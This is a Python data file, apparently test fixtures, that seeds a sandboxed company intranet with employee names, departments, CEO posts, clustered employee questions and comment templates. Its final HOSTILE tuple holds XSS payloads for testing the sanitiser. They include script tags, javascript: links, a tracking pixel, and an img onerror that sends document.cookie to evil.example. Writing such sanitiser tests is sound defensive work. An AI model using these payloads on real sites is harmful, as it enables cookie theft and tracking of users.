"""Text the sandbox seeds its organisation from: names, roles, posts, and comment phrasings.

Pure data, no logic. ``seed.py`` combines it deterministically. Question clusters are the
ground truth for "ask once, answer many": each cluster is one question asked in many words.
"""

from __future__ import annotations


def _names(text: str) -> tuple[str, ...]:
    return tuple(name.strip() for name in text.split(","))


EXECUTIVE = {
    "name": "Dana Whitfield",
    "title": "Chief Executive Officer",
    "department": "Executive Office",
    "level": "Executive",
}

FIRST_NAMES = _names(
    "Aisha, Akira, Alejandro, Amara, Anders, Ananya, Andrea, Arjun, Astrid, Ben, Bianca, Bogdan, "
    "Camille, Carlos, Chen, Chidi, Chloe, Claire, Daniel, Deepa, Diego, Dmitri, Eilidh, Elena, "
    "Emeka, Emily, Erik, Fatima, Felipe, Fiona, Francesca, Gabriel, Grace, Hana, Hannah, Hassan, "
    "Ines, Ingrid, Isabel, Ivan, Jamal, James, Javier, Jin, Joanna, Jonas, Jorge, Julia, Kai, "
    "Karim, Kateryna, Keisha, Kenji, Laila, Lars, Laura, Leila, Liam, Lucia, Luis, Maeve, Malik, "
    "Marco, Maria, Marta, Mateo, Mei, Mohammed, Nadia, Naomi, Nikhil, Nina, Noah, Olga, Oliver, "
    "Olumide, Omar, Owen, Patrick, Pedro, Priya, Rafael, Rahul, Rania, Rebecca, Ricardo, Rosa, "
    "Ruth, Sakura, Samuel, Sanjay, Sara, Sean, Sofia, Sven, Tamara, Tariq, Thabo, Theo, Tomasz, "
    "Uma, Valentina, Victor, Wei, Yara, Yusuf, Zainab, Zoe, Agnieszka, Bjorn, Colm, Dorothea, "
    "Efua, Hiroshi, Kwame, Lindiwe, Mateusz, Siobhan, Xiu"
)

LAST_NAMES = _names(
    "Abara, Acheampong, Adeyemi, Andersson, Arslan, Banerjee, Barros, Becker, Bianchi, Brennan, "
    "Campbell, Castillo, Chaudhry, Chen, Cohen, Costa, Dalton, Dubois, Duarte, Eriksen, Farouk, "
    "Fernandes, Fischer, Fitzgerald, Garcia, Gonzalez, Gupta, Haddad, Hansen, Hartmann, Hayes, "
    "Hoang, Horvat, Ibrahim, Ito, Iyer, Jansen, Jimenez, Johansson, Kamau, Kaur, Khan, Kim, "
    "Kowalski, Kruger, Kumar, Larsen, Lebedev, Lee, Lindqvist, Lopez, Mahlangu, Malik, Martin, "
    "Mendes, Mensah, Moreau, Murphy, Nakamura, Nguyen, Nielsen, Novak, Nowak, Obi, O'Brien, "
    "Okafor, Oliveira, Ortiz, Osei, Park, Patel, Perez, Petrov, Popescu, Quinn, Rahman, Ramirez, "
    "Reddy, Reyes, Richter, Rossi, Sato, Schmidt, Shah, Silva, Singh, Sokolov, Suzuki, Svensson, "
    "Tanaka, Thompson, Tran, Van der Berg, Varga, Verma, Wagner, Walsh, Wang, Weber, Williams, "
    "Wojcik, Wu, Yamamoto, Yilmaz, Zhang, Zielinski, Achebe, Bergstrom, Delacroix, Esposito, "
    "Gallagher"
)

#: department -> (VP title, Director title, Manager title, IC titles, Frontline titles)
DEPARTMENTS: dict[str, tuple[str, str, str, tuple[str, ...], tuple[str, ...]]] = {
    "Engineering": (
        "VP Engineering",
        "Director of Engineering",
        "Engineering Manager",
        (
            "Senior Software Engineer",
            "Software Engineer",
            "Staff Engineer",
            "Site Reliability Engineer",
        ),
        ("Field Service Technician",),
    ),
    "Product": (
        "VP Product",
        "Director of Product",
        "Group Product Manager",
        ("Product Manager", "Product Designer", "UX Researcher"),
        (),
    ),
    "Sales": (
        "VP Sales",
        "Regional Sales Director",
        "Sales Manager",
        ("Account Executive", "Solutions Consultant", "Sales Development Rep"),
        ("Inside Sales Associate",),
    ),
    "Marketing": (
        "VP Marketing",
        "Director of Brand",
        "Marketing Manager",
        ("Content Strategist", "Product Marketing Manager", "Events Specialist"),
        (),
    ),
    "Finance": (
        "VP Finance",
        "Director of FP&A",
        "Finance Manager",
        ("Financial Analyst", "Senior Accountant", "Treasury Analyst"),
        ("Accounts Payable Clerk",),
    ),
    "People": (
        "VP People",
        "Director of Talent",
        "HR Business Partner",
        ("Recruiter", "People Analyst", "Learning Designer"),
        ("HR Coordinator",),
    ),
    "Legal": (
        "General Counsel",
        "Director of Compliance",
        "Legal Manager",
        ("Corporate Counsel", "Paralegal", "Privacy Analyst"),
        (),
    ),
    "Operations": (
        "VP Operations",
        "Director of Operations",
        "Site Manager",
        ("Operations Analyst", "Process Engineer", "Quality Engineer"),
        ("Warehouse Associate", "Forklift Operator", "Shift Lead", "Line Technician"),
    ),
    "Customer Success": (
        "VP Customer Success",
        "Director of Support",
        "Support Manager",
        ("Customer Success Manager", "Support Engineer", "Onboarding Specialist"),
        ("Customer Support Agent", "Contact Centre Agent"),
    ),
    "Supply Chain": (
        "VP Supply Chain",
        "Director of Logistics",
        "Logistics Manager",
        ("Demand Planner", "Procurement Specialist", "Buyer"),
        ("Delivery Driver", "Dispatcher", "Inventory Clerk"),
    ),
    "IT": (
        "CIO",
        "Director of IT",
        "IT Manager",
        ("Systems Administrator", "Security Analyst", "Network Engineer"),
        ("Service Desk Technician",),
    ),
    "Data & AI": (
        "VP Data & AI",
        "Director of Data Science",
        "Analytics Manager",
        ("Data Scientist", "Machine Learning Engineer", "Data Engineer"),
        (),
    ),
    "Retail": (
        "VP Retail",
        "Regional Retail Director",
        "Store Manager",
        ("Merchandiser", "Visual Merchandising Lead"),
        ("Store Associate", "Cashier", "Stock Associate", "Assistant Store Manager"),
    ),
}

SITES = _names(
    "Leeds, Rotterdam, Austin, Pune, Kraków, Monterrey, Dublin, Osaka, Nairobi, Lyon, Columbus, "
    "Manila"
)

#: (topic, title, markdown body). Topics pick which questions and reactions a post draws.
POSTS: tuple[tuple[str, str, str], ...] = (
    (
        "strategy",
        "Where we are going in the next three years",
        "I want to share the strategy the leadership team agreed last week.\n\n"
        "We will focus on **three things**: winning in our core markets, building a services "
        "business on top of our products, and making every team faster with better tools.\n\n"
        "That means saying no to some good ideas. I'll explain which ones in the coming weeks.",
    ),
    (
        "results",
        "Q1 results: a solid start, and what worries me",
        "Revenue grew 6% year over year and margins held. Thank you.\n\n"
        "What worries me is churn in our mid-market segment, which rose for the second "
        "quarter running. We are putting a dedicated team on it.",
    ),
    (
        "reorg",
        "Why we are reorganising around customers",
        "Starting next month we move from product lines to **customer segments**: "
        "Enterprise, Mid-market and Consumer.\n\n"
        "Every team will know which customer it serves. Your manager will brief you this week, "
        "and the full org chart goes up on the intranet on Friday.",
    ),
    (
        "ai",
        "How we will use AI — and how we won't",
        "AI tools are arriving in every job. We will use them to remove drudgery, not people.\n\n"
        "Everyone gets access to the AI assistant by the end of the quarter, with training. "
        "Customer data stays out of public tools. The full policy is on the intranet.",
    ),
    (
        "rto",
        "Coming back together: three office days from September",
        "From September, teams that work near an office will be together **Tuesday to "
        "Thursday**.\n\nI know this is a big change for many of you. We'll keep flexibility "
        "for caregivers, and people hired as remote stay remote.",
    ),
    (
        "culture",
        "What I learned on my site visits this spring",
        "I visited eleven sites in six weeks. The pride people take in their work is real.\n\n"
        "I also heard that decisions take too long and that tools get in the way. "
        "Both are on me to fix.",
    ),
    (
        "results",
        "Q2 results: growth is back in Enterprise",
        "Enterprise bookings rose 14%, our best quarter in two years. Mid-market stabilised.\n\n"
        "Costs ran ahead of plan, so we'll be careful with discretionary spend in H2.",
    ),
    (
        "cost",
        "Spending wisely in the second half",
        "We are tightening discretionary spend: travel for internal meetings pauses, and "
        "every new role needs VP approval.\n\nCustomer travel continues. This is prudence, "
        "not panic.",
    ),
    (
        "customers",
        "What our customers told us this year",
        "We surveyed 2,400 customers. They like our products and find us hard to do business "
        "with.\n\nSimplifying contracts and support is now a company priority.",
    ),
    (
        "ai",
        "Our first AI pilots: what worked",
        "Support agents using the AI assistant resolved tickets 18% faster, and customer "
        "satisfaction went up, not down.\n\nThe pilot in finance was less convincing. "
        "We'll share both honestly.",
    ),
    (
        "safety",
        "Safety is the first agenda item, always",
        "We had two serious near-misses in our warehouses this month. Nobody was hurt, this "
        "time.\n\nEvery site will run a safety stand-down on Monday. Stop work if it isn't safe; "
        "you will never be blamed for it.",
    ),
    (
        "benefits",
        "Changes to our benefits next year",
        "We are adding mental health days and raising the parental leave minimum to 20 weeks "
        "worldwide.\n\nThe health plan changes provider in some countries; HR will explain the "
        "details country by country.",
    ),
    (
        "sustainability",
        "Our path to net zero",
        "We cut operational emissions by 22% since 2021. The harder part is our supply chain.\n\n"
        "We'll ask our top 100 suppliers to set science-based targets by 2027.",
    ),
    (
        "product",
        "Launching the new platform",
        "Today we launch the new platform to all customers. Thank you to the hundreds of people "
        "who built it.\n\nPlease tell me what you hear from customers this week — good and bad.",
    ),
    (
        "reorg",
        "The reorg, six weeks in",
        "Six weeks in, most teams have settled. Some haven't, and I know why: unclear "
        "ownership between segments.\n\nWe are publishing a decision-rights map next week.",
    ),
    (
        "results",
        "Q3 results: a tough quarter",
        "We missed our revenue target by 3%. Consumer demand softened faster than we "
        "expected.\n\nWe will not cut our way out of this. We will sell our way out of it.",
    ),
    (
        "rto",
        "Office days: what we changed after your feedback",
        "You told us the office days were too rigid. Teams can now pick their own two anchor "
        "days, and a third day is up to you.\n\nDesk booking goes live in every office next "
        "month.",
    ),
    (
        "strategy",
        "Three things we are going to stop doing",
        "Strategy is choosing. We are stopping the hardware accessories line, the legacy "
        "partner portal and the quarterly business review deck marathon.\n\n"
        "People on those teams will move to growth areas; nobody is losing their job over this.",
    ),
    (
        "culture",
        "Recognising the people who kept us running",
        "During the systems outage last month, our service desk and warehouse teams worked "
        "through the night.\n\nI want to name them and thank them properly. Add your own "
        "thank-yous below.",
    ),
    (
        "ai",
        "AI and your career",
        "Many of you asked whether AI will change your job. Honestly: yes, most jobs will "
        "change.\n\nWe are funding 40 hours of learning per person this year, and internal moves "
        "come before outside hires.",
    ),
    (
        "results",
        "Full-year results and what comes next",
        "We finished the year with 5% growth, below the plan we set, above what the market "
        "did.\n\nThe bonus pool will be funded at 85%. I'd rather tell you now than in March.",
    ),
    (
        "customers",
        "Simplifying how customers buy from us",
        "Starting next quarter customers sign one contract instead of four, and can manage "
        "licences themselves.\n\nSales and legal worked for months on this. It will make "
        "renewals easier for everyone.",
    ),
    (
        "cost",
        "Why we are consolidating offices",
        "We will consolidate three offices in cities where we have two. Leases end over the "
        "next 18 months.\n\nNobody will be asked to relocate; affected teams will be consulted "
        "first.",
    ),
    (
        "strategy",
        "Our services business: the first year",
        "Services revenue reached 9% of the total in its first year. Customers who buy "
        "services renew at a higher rate.\n\nWe'll hire 120 consultants, many from inside.",
    ),
    (
        "safety",
        "A year without a lost-time injury in Operations",
        "Our operations teams completed twelve months without a lost-time injury. That is the "
        "work of thousands of careful people.\n\nLet's keep each other safe for the next year.",
    ),
    (
        "benefits",
        "Pay review: how it works this year",
        "This year's pay review budget is 4% on average, with more for frontline roles where "
        "living costs rose fastest.\n\nManagers get their guidance next week.",
    ),
    (
        "product",
        "What our AI features mean for customers",
        "We are adding AI summaries to the support portal. Customers' data is never used to "
        "train public models.\n\nThe product and legal teams wrote a plain-language FAQ.",
    ),
    (
        "reorg",
        "New leaders for the Mid-market segment",
        "I'm pleased to announce new leadership for Mid-market, which has had an interim "
        "leader since the reorg.\n\nThank you to everyone who kept the segment running.",
    ),
    (
        "sustainability",
        "Electrifying our delivery fleet",
        "By 2028 every delivery van in Europe will be electric, and half in North America.\n\n"
        "Drivers will be trained on the new vehicles before they arrive.",
    ),
    (
        "rto",
        "Six months of office days: the data",
        "Attendance is steady at 2.6 days a week. Teams that meet in person report faster "
        "decisions; commuting remains the biggest complaint.\n\nWe're piloting a commuting "
        "allowance in two cities.",
    ),
    (
        "culture",
        "Speaking up",
        "Several of you told me you don't feel safe raising problems with senior leaders. "
        "That has to change.\n\nI'm starting monthly open office hours, and the ethics line is "
        "now run by an independent provider.",
    ),
    (
        "results",
        "Q1 results, one year on",
        "A year ago I said churn worried me. It is down by a third. Growth is 8%.\n\n"
        "We still have work to do in Consumer, and I'll keep reporting on it honestly.",
    ),
    (
        "strategy",
        "Acquiring a partner we know well",
        "We have agreed to acquire Northwind Analytics, a partner of ours for six years.\n\n"
        "Their 300 colleagues will join Data & AI. Nothing changes for customers on day one.",
    ),
    (
        "ai",
        "AI assistant: now for everyone",
        "The AI assistant is now available to every employee, including on mobile for our "
        "frontline colleagues.\n\nTraining sessions run every day this month in every time zone.",
    ),
)

#: Topic -> a few words to drop into reactions ("... the reorg ...").
TOPIC_PHRASES: dict[str, tuple[str, ...]] = {
    "strategy": ("the strategy", "these priorities", "the three-year plan"),
    "results": ("the results", "this quarter", "the numbers"),
    "reorg": ("the reorg", "the new structure", "the segment model"),
    "ai": ("the AI rollout", "the AI assistant", "our AI plans"),
    "rto": ("the office days", "the return to office", "hybrid working"),
    "culture": ("this", "our culture", "what you heard on the visits"),
    "cost": ("the cost measures", "the spending freeze", "the consolidation"),
    "customers": ("the customer changes", "simpler contracts", "what customers said"),
    "safety": ("safety", "the stand-down", "the safety record"),
    "benefits": ("the benefits changes", "the pay review", "the new leave policy"),
    "sustainability": ("net zero", "the fleet plan", "our climate targets"),
    "product": ("the launch", "the new platform", "the AI features"),
}

#: cluster id -> (topics it belongs to, phrasings of one question, an answer the exec gave).
QUESTION_CLUSTERS: dict[str, tuple[tuple[str, ...], tuple[str, ...], str]] = {
    "bonus": (
        ("reorg", "results", "cost"),
        (
            "Will the reorg affect our bonuses?",
            "How does this change bonus payouts this year?",
            "Are bonuses still on track given the new structure?",
            "Does moving teams reset our bonus eligibility?",
            "What happens to the annual bonus after all this?",
            "Is the bonus pool being cut because of this?",
            "Should we expect lower bonuses this cycle?",
            "Quick one: is our bonus going to be impacted?",
        ),
        "bonuses this year are calculated on the old structure and nobody's target changes "
        "because of where their team now sits.",
    ),
    "layoffs": (
        ("reorg", "cost", "ai", "results"),
        (
            "Are there going to be layoffs?",
            "Is this a precursor to job cuts?",
            "Can you promise there will be no redundancies this year?",
            "Should we be worried about headcount reductions?",
            "Will any roles be eliminated as part of this?",
            "Are we going to see another round of layoffs?",
            "Honest question: is my job safe?",
        ),
        "there is no layoff plan behind this. If that ever changes you will hear it from me "
        "first, not from rumours.",
    ),
    "reporting_lines": (
        ("reorg",),
        (
            "Who will my team report to now?",
            "When will we know who our new managers are?",
            "Is there an org chart for the new structure yet?",
            "How do I find out where my team lands?",
            "Our team still doesn't know which segment we belong to — when will we hear?",
        ),
        "every manager has the mapping now and the org chart is on the intranet; if your "
        "manager hasn't briefed you, message me directly.",
    ),
    "promotions": (
        ("reorg", "culture", "results", "benefits"),
        (
            "Will the promotion cycle be delayed?",
            "Are promotions frozen this half?",
            "Does this pause promotions?",
            "When is the next promotion window?",
            "Is the mid-year promotion round still happening?",
        ),
        "the promotion cycle runs as planned, on the same dates.",
    ),
    "remote_hires": (
        ("rto",),
        (
            "Does the office requirement apply to people hired as fully remote?",
            "What about colleagues whose contracts say remote?",
            "Will remote hires be forced to come in?",
            "Are remote contracts being honoured?",
            "I was hired remote two years ago — does this apply to me?",
        ),
        "if you were hired as remote, you stay remote. Nothing in your contract changes.",
    ),
    "caregivers": (
        ("rto", "benefits"),
        (
            "What flexibility is there for parents with school pick-ups?",
            "How will the office days work for those of us with childcare?",
            "Can caregivers get an exception to the office days?",
            "Is there any accommodation for people caring for elderly parents?",
            "As a single parent, how am I supposed to make three days work?",
        ),
        "caregivers agree their pattern with their manager, and HR will back any reasonable "
        "arrangement.",
    ),
    "desks_parking": (
        ("rto", "cost"),
        (
            "Will there be enough desks if everyone comes in on the same days?",
            "Is there going to be enough parking?",
            "Our office already runs out of meeting rooms — how will this work?",
            "Where are we all going to sit on Tuesdays?",
            "Has anyone checked the office can actually hold everyone?",
        ),
        "desk booking goes live before the change, and we are adding space where the "
        "booking data shows we need it.",
    ),
    "commute": (
        ("rto", "sustainability", "cost"),
        (
            "Will the company help with commuting costs?",
            "Is there going to be a commuting allowance?",
            "Train fares went up again — any support for travel to the office?",
            "Can we get season ticket loans or a travel stipend?",
        ),
        "we're piloting a commuting allowance in two cities and will extend it if it works.",
    ),
    "ai_jobs": (
        ("ai", "product"),
        (
            "Will AI replace our jobs?",
            "Is the AI programme going to mean fewer roles in support?",
            "Are we using AI to cut headcount?",
            "Should people in operations be worried about automation?",
            "What does the AI push mean for my job security?",
            "Be straight with us: is AI going to take our jobs?",
        ),
        "we're using AI to take work off your plate, not to take your job. We've made no "
        "headcount plan based on AI.",
    ),
    "ai_training": (
        ("ai",),
        (
            "Will we get training on the new AI tools?",
            "When do we get access to the AI assistant?",
            "Is there a learning budget for AI skills?",
            "How do I get a licence for the AI assistant?",
            "Will frontline staff get access too, or just office workers?",
        ),
        "everyone gets access and training this quarter, frontline included; sign up on the "
        "learning portal.",
    ),
    "ai_data": (
        ("ai", "product", "customers"),
        (
            "Is it safe to paste customer data into the AI tools?",
            "What's the policy on confidential data in AI prompts?",
            "Are our prompts used to train the vendor's model?",
            "Can I use the assistant with client documents?",
        ),
        "customer and confidential data only go into the approved assistant, which never "
        "trains on our data. Public tools are off-limits for it.",
    ),
    "guidance": (
        ("results", "strategy"),
        (
            "Are we going to hit the full-year target?",
            "Is the guidance being lowered?",
            "What does this quarter mean for the rest of the year?",
            "Will we make the annual numbers?",
        ),
        "we still expect to land within our range; I'll update you at the next results if "
        "that changes.",
    ),
    "hiring_freeze": (
        ("cost", "results", "strategy"),
        (
            "Is there a hiring freeze?",
            "Can we still backfill open roles?",
            "Are approved reqs still going ahead?",
            "Is backfilling frozen now?",
            "My team is two people short — can we still hire?",
        ),
        "there's no freeze: backfills go ahead, new roles need VP approval.",
    ),
    "equity": (
        ("results", "benefits"),
        (
            "Will the RSU refresh still happen?",
            "Are equity grants affected by the results?",
            "What is being done about the share price?",
            "Is the employee share plan changing?",
        ),
        "the refresh grants go ahead as planned in the spring.",
    ),
    "health_plan": (
        ("benefits",),
        (
            "Is the health plan changing next year?",
            "Will our current doctors still be covered with the new provider?",
            "When will we get details of the new health insurance?",
            "Does the provider change affect dependants?",
        ),
        "HR will send each country's details in the next two weeks, with a side-by-side "
        "comparison.",
    ),
    "site_safety": (
        ("safety", "culture"),
        (
            "When will the new safety equipment arrive at our site?",
            "Are we getting the new PPE at the smaller depots too?",
            "Who do we tell when a near-miss isn't being followed up?",
            "Will the stand-down include night shifts?",
        ),
        "every site, every shift, including nights; the equipment ships to all depots this month.",
    ),
    "customer_contracts": (
        ("customers", "product", "strategy"),
        (
            "How will this affect existing customers' contracts?",
            "Do current customers have to re-sign?",
            "What do we tell customers who are mid-renewal?",
            "Will existing contracts migrate automatically?",
        ),
        "existing contracts stay valid; customers move to the new contract at renewal.",
    ),
    "net_zero": (
        ("sustainability",),
        (
            "Are we still committed to net zero by 2040?",
            "Is the climate target still realistic given the cost measures?",
            "How are we going to get suppliers to actually cut emissions?",
        ),
        "yes, 2040 stands, and supplier targets are now part of every new contract.",
    ),
}

PRAISE = (
    "Thank you for being so open about {topic}.",
    "Really appreciate the transparency here.",
    "This is the clearest explanation of {topic} I've seen.",
    "Great post — sharing it with my team today.",
    "Thanks {exec}, this helps a lot.",
    "Love this. More updates like this, please.",
    "Proud to work here on days like this.",
    "Finally some clarity on {topic}. Thank you!",
    "Thanks for writing this yourself rather than sending a memo.",
    "This lands well with our team in {site}.",
)

PUSHBACK = (
    "With respect, we've heard this before about {topic}.",
    "I don't think this lands well with the frontline.",
    "The numbers don't match what we see on the ground in {site}.",
    "This sounds good on paper, but nobody asked the people doing the work.",
    "I'd like to see the data behind {topic} before I believe it.",
    "Honestly, {topic} feels rushed.",
    "Morale in {dept} is low and posts like this don't change that.",
    "Respectfully, this ignores what customers keep telling us.",
)

MENTIONS = (
    "@{exec} could you clarify what this means for the {dept} team?",
    "@{exec} would love to hear your take on how {topic} affects {site}.",
    "@{exec} thank you for visiting the {site} site — the team still talks about it.",
    "@{exec} can you join our {dept} all-hands to talk about {topic}?",
    "@{exec} will there be a town hall on {topic}?",
)

REMARKS = (
    "Our team in {site} ran a session on {topic} last week; good discussion.",
    "For anyone looking, the FAQ on the intranet answers most of this.",
    "We tried something similar in {dept} last year and it worked well.",
    "Looking forward to seeing how {topic} plays out.",
    "Interesting read. Curious what others in {dept} think.",
    "Printed this out for the break room in {site}.",
)

PEER_REPLIES = (
    "+1, we have the same question in {dept}.",
    "Same here — would love an answer on this.",
    "Agreed.",
    'I think HR posted a FAQ on this: <a href="https://intranet.example.com/faq">link</a>',
    "Our manager said more details are coming next week.",
    "Not sure that's fair — the post says the opposite.",
    "This. Exactly this.",
    "Ask in the town hall, they usually answer there.",
)

MY_GENERIC_ANSWERS = (
    "good question — we'll cover it at Thursday's town hall and I'll post the recording here.",
    "thank you, I've passed this to the team that owns it and asked them to reply this week.",
    "fair challenge. I'll come back with the data.",
)

#: Hostile or sloppy markup a real network lets through; the client's sanitiser must cope.
HOSTILE = (
    "<p>Great news!<script>alert('xss')</script></p>",
    '<p>See my chart <img src="http://tracker.example.net/pixel.gif?u={n}"></p>',
    '<p><a href="javascript:alert(document.cookie)">Click for the real FAQ</a></p>',
    '<p onclick="steal()">Thanks for sharing.</p>',
    '<p><iframe src="http://evil.example/frame"></iframe>Interesting.</p>',
    "<style>body{{display:none}}</style><p>Agree with the above.</p>",
    "<p>Is this real?<img src=x onerror=\"fetch('http://evil.example/'+document.cookie)\"></p>",
)
